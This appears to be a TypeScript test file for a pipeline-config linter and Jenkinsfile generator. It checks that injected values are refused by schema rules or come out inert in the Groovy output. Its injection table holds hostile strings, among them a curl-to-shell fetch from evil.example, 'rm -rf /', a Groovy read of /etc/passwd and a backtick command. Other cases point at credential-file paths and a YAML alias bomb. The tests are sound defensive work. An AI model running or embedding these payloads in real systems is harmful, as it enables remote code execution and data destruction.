// Hostile configs: injection into data fields, path traversal, absurd sizes and counts are refused by a named rule; free text that is
// accepted comes out of Groovy 2.4 exactly as written and never inside an sh script.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import jsYaml from 'js-yaml';
import { loadText } from '../../src/config/load.js';
import { lintLoaded } from '../../src/lint/runner.js';
import { generateJenkinsfile } from '../../src/gen/jenkinsfile.js';
import { parseGroovyTexts } from '../support/groovy.js';
import { patched, type Patch } from '../support/lint.js';

/** What each kind of attack tries, one value each. */
const INJECTIONS: Record<string, string> = {
  'groovy quote': "x'; System.exit(0); '",
  'groovy triple quote': "x''' + evaluate('1') + '''",
  'groovy interpolation': '${new File("/etc/passwd").text}',
  'shell substitution': '$(curl evil.example | sh)',
  'shell backticks': '`id`',
  'shell separator': 'x; rm -rf /',
  newline: 'x\nsh "id"',
  handlebars: '{{#each this}}{{this}}{{/each}}',
  'handlebars partial': '{{> Jenkinsfile}}',
};
const TODAY = '2026-01-01';
const lint = (text: string) => lintLoaded(loadText(text, 'pipeline.yaml'), undefined, { today: TODAY });
const dump = (patch: Patch): string => jsYaml.dump(patched(patch), { lineWidth: -1 });
const errorRules = (text: string): string[] =>
  [
    ...new Set(
      lint(text)
        .diagnostics.filter((d) => d.severity === 'error')
        .map((d) => d.ruleId),
    ),
  ].sort();

/** Data fields whose schema pattern leaves no room for quotes, `$`, backticks, `;`, braces or line breaks. */
const CONSTRAINED: Record<string, (v: string) => Patch> = {
  app: (v) => ({ app: v }),
  'environment name': (v) => ({ environments: { [v]: { branch: 'develop' } } }),
  branch: (v) => ({ environments: { dev: { branch: v } } }),
  'gitops.repo': (v) => ({ gitops: { repo: v } }),
  'credentials ID': (v) => ({ gitops: { credentialsId: v } }),
  'slack channel': (v) => ({ notifications: { slack: { channel: v } } }),
  'health check URL': (v) => ({ environments: { dev: { healthCheck: { url: v } } } }),
  'image tag': (v) => ({ image: { tag: v } }),
  'registry URL': (v) => ({ image: { registry: { url: v } } }),
  'custom stage name': (v) => ({ custom: [{ name: v, after: 'test', run: 'true' }] }),
  'sonar project key': (v) => ({ gates: { sonarqube: { server: 'sonar', projectKey: v } } }),
  'argo CD app': (v) => ({ environments: { dev: { argocdApp: v } } }),
};

/** Paths may hold `;`, spaces and braces (file names can): those must be inert; quotes, `$`, backticks and line breaks are refused. */
const PATHS: Record<string, (v: string) => Patch> = {
  'manifest path': (v) => ({ environments: { dev: { manifest: v } } }),
  'junit report path': (v) => ({ build: { reports: { junit: v } } }),
};
const PATH_SAFE = new Set(['shell separator', 'handlebars', 'handlebars partial']);

test("the base config is clean, so each refusal below is the hostile value's", () => {
  assert.equal(errorRules(dump({})), []);
});

for (const [field, patch] of Object.entries(CONSTRAINED)) {
  test(`${field}: every injection is refused by the schema`, () => {
    for (const [kind, value] of Object.entries(INJECTIONS)) assert.equal(errorRules(dump(patch(value))), ['schema'], `${field} <- ${kind}`);
  });
}

for (const [field, patch] of Object.entries(PATHS)) {
  test(`${field}: injections with quotes, $, backticks or line breaks are refused by the schema; the rest are plain names`, () => {
    for (const [kind, value] of Object.entries(INJECTIONS))
      assert.equal(errorRules(dump(patch(value))), PATH_SAFE.has(kind) ? [] : ['schema'], `${field} <- ${kind}`);
  });
}

const REFUSALS: Array<{ name: string; text: () => string; rule: string }> = [
  {
    name: 'manifest path climbing out',
    text: () => dump({ environments: { dev: { manifest: '../../../etc/kubernetes/admin.conf' } } }),
    rule: 'manifest-path-unsafe',
  },
  { name: 'absolute manifest path', text: () => dump({ environments: { prod: { manifest: '/root/.kube/config' } } }), rule: 'manifest-path-unsafe' },
  {
    name: 'junit report outside the workspace',
    text: () => dump({ build: { reports: { junit: '../../other-job/junit.xml' } } }),
    rule: 'workspace-path-unsafe',
  },
  {
    name: 'absolute coverage report',
    text: () => dump({ build: { reports: { coverage: '/var/lib/jenkins/secrets/master.key' } } }),
    rule: 'workspace-path-unsafe',
  },
  { name: 'build context outside the workspace', text: () => dump({ image: { context: '../..' } }), rule: 'workspace-path-unsafe' },
  { name: 'password in the gitops URL', text: () => dump({ gitops: { repo: 'https://bot:hunter2@github.com/acme/k8s-manifests.git' } }), rule: 'schema' },
  {
    name: 'a token spliced into a command URL',
    text: () => dump({ custom: [{ name: 'Push', after: 'publish', run: 'git push https://${GITHUB_TOKEN}@github.com/acme/x.git' }] }),
    rule: 'credentials-in-url',
  },
  {
    name: 'a token pasted as a value',
    text: () => dump({ image: { buildArgs: { NPM_TOKEN: 'ghp_0123456789abcdefghijABCDEFGHIJ012345' } } }),
    rule: 'secret-in-config',
  },
  {
    name: '10,000 environments',
    text: () => dump({ environments: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`e${i}`, { branch: `b${i}` }])) }),
    rule: 'schema',
  },
  {
    name: '1,000 custom stages',
    text: () => dump({ custom: Array.from({ length: 1000 }, (_, i) => ({ name: `s${i}`, after: 'test', run: 'true' })) }),
    rule: 'schema',
  },
  {
    name: 'a 900 KB approval message',
    text: () => dump({ environments: { prod: { approval: { submitters: ['ops'], message: 'x'.repeat(900_000) } } } }),
    rule: 'schema',
  },
  { name: 'a 900 KB command', text: () => dump({ build: { test: 'y'.repeat(900_000) } }), rule: 'schema' },
  { name: 'a 1 MB string (over the file limit)', text: () => dump({ app: 'z'.repeat(1_100_000) }), rule: 'file-too-large' },
  // Found by the fuzz test (seed 99, case 7329): YAML reads 1e309 as Infinity, which the generator cannot write.
  {
    name: 'an infinite metrics limit (1e309)',
    text: () =>
      dump({
        environments: {
          prod: {
            healthCheck: {
              url: 'https://orders.acme.com/healthz',
              metrics: { prometheus: 'https://prometheus.acme.internal', checks: [{ name: 'errors', preset: 'error-rate', max: 0.02 }] },
            },
          },
        },
      }).replace('max: 0.02', 'max: 1e309'),
    rule: 'schema',
  },
  { name: 'an infinite coverage minimum (1e309)', text: () => dump({ gates: { coverage: { min: 80 } } }).replace('min: 80', 'min: 1e309'), rule: 'schema' },
  { name: 'a NaN threshold (.nan)', text: () => dump({ gates: { coverage: { min: 80 } } }).replace('min: 80', 'min: .nan'), rule: 'schema' },
  {
    name: 'an infinite replica count (.inf)',
    text: () => dump({ environments: { prod: { replicas: 3 } } }).replace('replicas: 3', 'replicas: .inf'),
    rule: 'schema',
  },
  {
    name: 'an alias bomb',
    text: () =>
      `a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 8 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(10).fill(`*a${i}`).join(', ')}]`).join('\n')}\n${dump({})}`,
    rule: 'yaml-aliases',
  },
];

for (const r of REFUSALS) {
  test(`refused with [${r.rule}]: ${r.name}`, () => {
    const result = lint(r.text());
    const errors = result.diagnostics.filter((d) => d.severity === 'error');
    assert.ok(
      errors.some((d) => d.ruleId === r.rule),
      `rules: ${errors.map((d) => d.ruleId).join(', ') || 'none'}`,
    );
    for (const d of errors) assert.ok(d.message.length <= 500, `[${d.ruleId}] message of ${d.message.length} characters`);
  });
}

/** Free-text data the schema accepts: the generator must make it inert. */
const FREE_TEXT: Record<string, (v: string) => Patch> = {
  'approval message': (v) => ({ environments: { prod: { approval: { submitters: ['ops'], message: v } } } }),
  'health check body': (v) => ({ environments: { dev: { healthCheck: { url: 'https://orders.dev.acme.internal/healthz', expectBody: v } } } }),
  'build argument': (v) => ({ image: { buildArgs: { GREETING: v } } }),
  ...PATHS,
};

/** Whether one of the strings is the Jenkinsfile's PW_ENVIRONMENT_FACTS JSON and holds the value as one of its facts (read back by readJSON on the agent). */
function factsHold(strings: string[], value: string): boolean {
  return strings.some((s) => {
    if (!s.startsWith('{') || !s.includes('"environments"')) return false;
    const facts = JSON.parse(s) as { shared?: Record<string, unknown>; environments?: Record<string, Record<string, unknown>> };
    return [facts.shared ?? {}, ...Object.values(facts.environments ?? {})].some((one) => Object.values(one).includes(value));
  });
}

test('free-text fields (and paths, for what they accept) take the injections, and Groovy 2.4 reads each back exactly, outside every sh script', () => {
  const cases: Array<{ label: string; value: string; text: string }> = [];
  for (const [field, patch] of Object.entries(FREE_TEXT)) {
    for (const [kind, value] of Object.entries(INJECTIONS)) {
      if (field in PATHS && !PATH_SAFE.has(kind)) continue;
      const result = lint(dump(patch(value)));
      assert.equal(
        result.diagnostics.filter((d) => d.severity === 'error').map((d) => d.ruleId),
        [],
        `${field} <- ${kind}`,
      );
      cases.push({ label: `${field} <- ${kind}`, value, text: generateJenkinsfile(result.model!, { source: 'pipeline.yaml', command: 'pipewright gen' }) });
    }
  }
  const parsed = parseGroovyTexts(cases.map((c) => c.text));
  parsed.forEach((p, i) => {
    const { label, value } = cases[i]!;
    assert.ok(p.ok, `${label}: ${p.error}`);
    assert.is(p.gstrings, 0, `${label}: a GString`);
    assert.ok(p.strings.includes(value) || factsHold(p.strings, value), `${label}: Groovy does not read the value back as one string`);
    assert.not.ok(
      p.sh.some((s) => s !== null && s.includes(value)),
      `${label}: the value is inside an sh script`,
    );
  });
});

test('Handlebars syntax in data is printed, never expanded: the template engine sees values, not templates', () => {
  const value = INJECTIONS['handlebars partial']!;
  const text = generateJenkinsfile(lint(dump(FREE_TEXT['approval message']!(value))).model!, { source: 'pipeline.yaml', command: 'pipewright gen' });
  assert.ok(text.includes(`'${value}'`), 'the literal holds the braces as written');
  assert.not.ok(text.includes('// GENERATED', 10), 'the partial was not expanded into a second copy of the Jenkinsfile');
});

test.run();
